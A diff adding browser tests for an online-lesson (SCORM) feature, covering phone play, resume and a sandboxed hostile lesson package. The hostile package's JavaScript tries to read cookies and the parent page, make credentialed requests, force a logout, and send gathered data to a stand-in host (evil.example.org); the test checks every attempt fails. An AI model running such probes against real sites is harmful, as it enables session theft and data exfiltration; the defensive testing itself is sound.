@@ -1,0 +1,194 @@
+"""Online lessons in a browser: played, left and gone on with by phone; a hostile one reaches nothing."""
+
+import json
+from typing import Any
+
+import pytest
+from playwright.sync_api import FrameLocator, Page, expect
+from tests.browser.acting import sign_in
+from tests.factories.accounts import PASSWORD, person_with
+from tests.factories.jurisdictions import JurisdictionFactory, PartnershipFactory
+from tests.factories.scorm import lesson_in, package
+from tests.factories.scorm import page as lesson_page
+from tests.factories.training import ApplicationFactory, CohortFactory, SessionFactory
+
+from interlocal.foundation.notices.public import sign_path
+from interlocal.programs.training.models import Application, HandIn, Lesson, LessonProgress
+from interlocal.programs.training.rules import learner_path
+
+pytestmark = pytest.mark.django_db(transaction=True)
+PHONE = {"width": 320, "height": 640}
+# Begins where it was left, and is passed by the button.
+LESSON = lesson_page(
+    """
+    api.LMSInitialize("");
+    var place = Number(api.LMSGetValue("cmi.core.lesson_location") || 1);
+    say(api.LMSGetValue("cmi.core.student_name") + ", page " + place + ", " +
+        api.LMSGetValue("cmi.core.entry") + ", " + api.LMSGetValue("cmi.suspend_data"));
+    document.getElementById("next").onclick = function () {
+      place += 1;
+      api.LMSSetValue("cmi.core.lesson_location", String(place));
+      api.LMSSetValue("cmi.suspend_data", "answers=" + place);
+      api.LMSSetValue("cmi.core.lesson_status", "incomplete");
+      say("page " + place);
+    };
+    document.getElementById("pass").onclick = function () {
+      api.LMSSetValue("cmi.core.score.raw", "85");
+      api.LMSSetValue("cmi.core.lesson_status", "passed");
+      say("committed " + api.LMSCommit(""));
+    };
+    window.addEventListener("unload", function () {
+      api.LMSSetValue("cmi.core.session_time", "0000:01:30");
+      api.LMSSetValue("cmi.core.exit", "suspend");
+      api.LMSFinish("");
+    });
+    """,
+    '<button id="next">Next page</button> <button id="pass">Finish the quiz</button>',
+)
+
+
+@pytest.fixture
+def seated() -> Application:
+    """Return a learner with a seat in a cohort that runs."""
+    PartnershipFactory.create()
+    city = JurisdictionFactory(name="Grandview")
+    cohort = CohortFactory(seats=1, shares={city: 1})
+    SessionFactory(cohort=cohort)
+    return ApplicationFactory(cohort=cohort, jurisdiction=city, seated=True, seat=cohort.seats.get())
+
+
+def _address(site: str, application: Application, lesson: Lesson) -> str:
+    root = learner_path(application.learner)
+    task = f"{application.public_id}/homework/{lesson.homework.public_id}/"
+    return f"{site}{root}{sign_path(root)}/{task}"
+
+
+def _frame(page: Page) -> FrameLocator:
+    return page.frame_locator("iframe")
+
+
+def test_learner_plays_leaves_and_goes_on_by_phone(
+    page: Page, live_server: Any, check_page: Any, seated: Application
+) -> None:
+    lesson = lesson_in(seated.cohort.course, package({"index.html": LESSON}))
+    page.set_viewport_size(PHONE)
+    page.goto(_address(live_server.url, seated, lesson))
+    check_page(page, "training-lesson-before")
+    page.get_by_role("button", name="Begin the lesson").click()
+    expect(_frame(page).locator("#said")).to_have_text(f"{seated.learner.name}, page 1, ab-initio, ")
+    _frame(page).get_by_role("button", name="Next page").click()
+    expect(_frame(page).locator("#said")).to_have_text("page 2")
+    page.get_by_role("link", name="Save and leave").click()
+    page.wait_for_url("**/homework/*/")
+
+    left = LessonProgress.objects.get()
+    assert (left.location, left.suspend_data, left.status) == ("2", "answers=2", "incomplete")
+    assert (left.last_exit, left.total_time) == ("suspend", 9000)
+
+    page.get_by_role("button", name="Go on with the lesson").click()
+    expect(_frame(page).locator("#said")).to_have_text(f"{seated.learner.name}, page 2, resume, answers=2")
+    check_page(page, "training-lesson")
+    _frame(page).get_by_role("button", name="Finish the quiz").click()
+    expect(page.get_by_text("The lesson is done, and your coordinator sees it.")).to_be_visible()
+    page.get_by_role("link", name="Save and leave").click()
+    page.wait_for_url("**/homework/*/")
+
+    assert "Accepted" in page.inner_text("main")
+    done = LessonProgress.objects.get()
+    assert (done.status, str(done.score), done.total_time) == ("passed", "85.00", 18000)
+    assert HandIn.objects.get().accepted_at == done.done_at
+
+
+def test_second_page_stops_the_first(page: Page, live_server: Any, seated: Application) -> None:
+    lesson = lesson_in(seated.cohort.course, package({"index.html": LESSON}))
+    address = _address(live_server.url, seated, lesson)
+    page.goto(address)
+    page.get_by_role("button", name="Begin the lesson").click()
+    other = page.context.new_page()
+    other.goto(address)
+    other.get_by_role("button", name="Go on with the lesson").click()
+    expect(_frame(other).locator("#said")).to_contain_text("page 1")
+    _frame(page).get_by_role("button", name="Finish the quiz").click()
+
+    expect(page.locator("[data-standing]")).to_contain_text("This lesson was opened on another page.")
+    assert not HandIn.objects.exists()
+
+
+HOSTILE = lesson_page(
+    """
+    var found = {};
+    function tries(name, what) {
+      try { found[name] = String(what()); } catch (error) { found[name] = error.name; }
+    }
+    async function asks(name, what) {
+      try { found[name] = String(await what()); } catch (error) { found[name] = error.name; }
+    }
+    tries("cookie", function () { return document.cookie; });
+    tries("storage", function () { return localStorage.length; });
+    tries("parent", function () { return parent.document.title; });
+    tries("address", function () { return parent.location.href; });
+    tries("top", function () { top.location = "about:blank"; return "went"; });
+    tries("popup", function () { return open("/"); });
+    tries("referrer", function () { return document.referrer; });
+    tries("origin", function () { return self.origin; });
+    (async function () {
+      var site = new URL(location.href).origin;
+      await asks("page", async () => (await fetch(site + "/", {credentials: "include"})).status);
+      await asks("static", async () => (await fetch(site + "/static/web/interlocal.css")).status);
+      var send = {method: "POST", credentials: "include"};
+      await asks("post", async () => (await fetch(site + "/programs/training/courses/add/", send)).status);
+      await asks("beacon", async () => navigator.sendBeacon(site + "/", "x"));
+      await asks("worker", async () => (await navigator.serviceWorker.register("script/find.js")).scope);
+      await asks("own", async () => (await fetch("script/find.js")).status);
+      await new Promise(function (next) {
+        var frame = document.createElement("iframe");
+        frame.src = site + "/account/login/";
+        frame.onload = next;
+        document.body.append(frame);
+        setTimeout(next, 1500);
+      });
+      tries("framed", function () { return frames[0].document.title; });
+      await asks("evil", async () => (await fetch("https://evil.example.org/?" + found.own)).status);
+      var form = document.createElement("form");
+      form.method = "post"; form.action = site + "/account/logout/";
+      document.body.append(form);
+      say(JSON.stringify(found));
+      setTimeout(function () { form.submit(); }, 3000);
+    })();
+    """
+)
+
+
+def test_hostile_package_cannot_reach_the_session(page: Page, live_server: Any, seated: Application) -> None:
+    lesson = lesson_in(seated.cohort.course, package({"index.html": HOSTILE}))
+    course = seated.cohort.course.public_id
+    user = person_with("training-coordinator", password=PASSWORD)
+    sign_in(page, live_server.url, user.email)
+    site, asked = live_server.url, list[str]()
+    page.goto(f"{site}/programs/training/courses/{course}/lessons/{lesson.homework.public_id}/try/")
+    page.on("request", lambda request: asked.append(request.url.removeprefix(site)))
+    expect(_frame(page).locator("#said")).to_contain_text("{", timeout=15000)
+
+    found = json.loads(_frame(page).locator("#said").inner_text())
+    assert found == {
+        "cookie": "SecurityError",
+        "storage": "SecurityError",
+        "parent": "SecurityError",
+        "address": "SecurityError",
+        "top": "SecurityError",
+        "popup": "null",
+        "referrer": "",
+        "origin": "null",
+        "page": "TypeError",
+        "static": "TypeError",
+        "post": "TypeError",
+        "beacon": "true",
+        "worker": "SecurityError",
+        "own": "200",
+        "framed": "SecurityError",
+        "evil": "TypeError",
+    }
+    expect(_frame(page).locator("#said")).to_have_count(0)
+    assert [one for one in asked if "/lessons/" not in one and "/static/" not in one] == []
+    page.goto(f"{site}/programs/training/courses/{course}/")
+    assert "/login/" not in page.url
